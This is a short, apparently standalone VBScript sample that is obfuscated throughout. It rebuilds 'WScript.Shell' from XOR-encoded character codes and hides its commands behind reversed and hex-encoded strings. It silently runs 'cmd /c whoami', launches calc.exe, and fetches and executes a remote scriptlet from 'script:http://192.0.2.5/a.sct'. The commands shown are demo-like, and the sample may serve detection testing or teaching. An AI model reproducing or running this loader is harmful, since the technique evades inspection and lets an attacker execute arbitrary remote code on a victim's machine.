On Error Resume Next
Dim a, b, i, k
a = Split("80,84,100,117,110,119,115,41,84,111,98,107,107", ",")
For i = 0 To UBound(a)
  b = b & Chr(CInt(a(i)) Xor 7)
Next
Set k = CreateObject(b)
k.Run StrReverse("imaohw c/ dmc"), 0
Execute Unhex("4372656174654f626a65637428225368656c6c2e4170706c69636174696f6e22292e5368656c6c45786563757465202263616c632e65786522")
Set m = GetObject(Replace("scr#ipt:h#ttp://192.0.2.5/a.sct", "#", ""))
Function Unhex(s)
  Dim n, r
  For n = 1 To Len(s) Step 2
    r = r & Chr(CLng("&H" & Mid(s, n, 2)))
  Next
  Unhex = r
End Function
